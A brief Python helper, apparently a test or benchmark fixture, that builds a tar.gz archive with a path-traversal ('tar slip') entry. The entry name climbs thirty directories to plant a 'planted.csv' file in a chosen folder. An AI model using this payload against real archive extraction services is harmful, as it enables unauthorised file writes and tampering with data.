import io
import tarfile
from pathlib import Path


def build(folder: Path, marks: dict[str, str]) -> Path:
    archive = folder / "submission.tar.gz"
    with tarfile.open(archive, "w:gz") as file:
        entry = tarfile.TarInfo("../" * 30 + marks["@FOLDER@"].strip("/") + "/planted.csv")
        entry.size = 11
        file.addfile(entry, io.BytesIO(b"mallory,16\n"))
    return archive
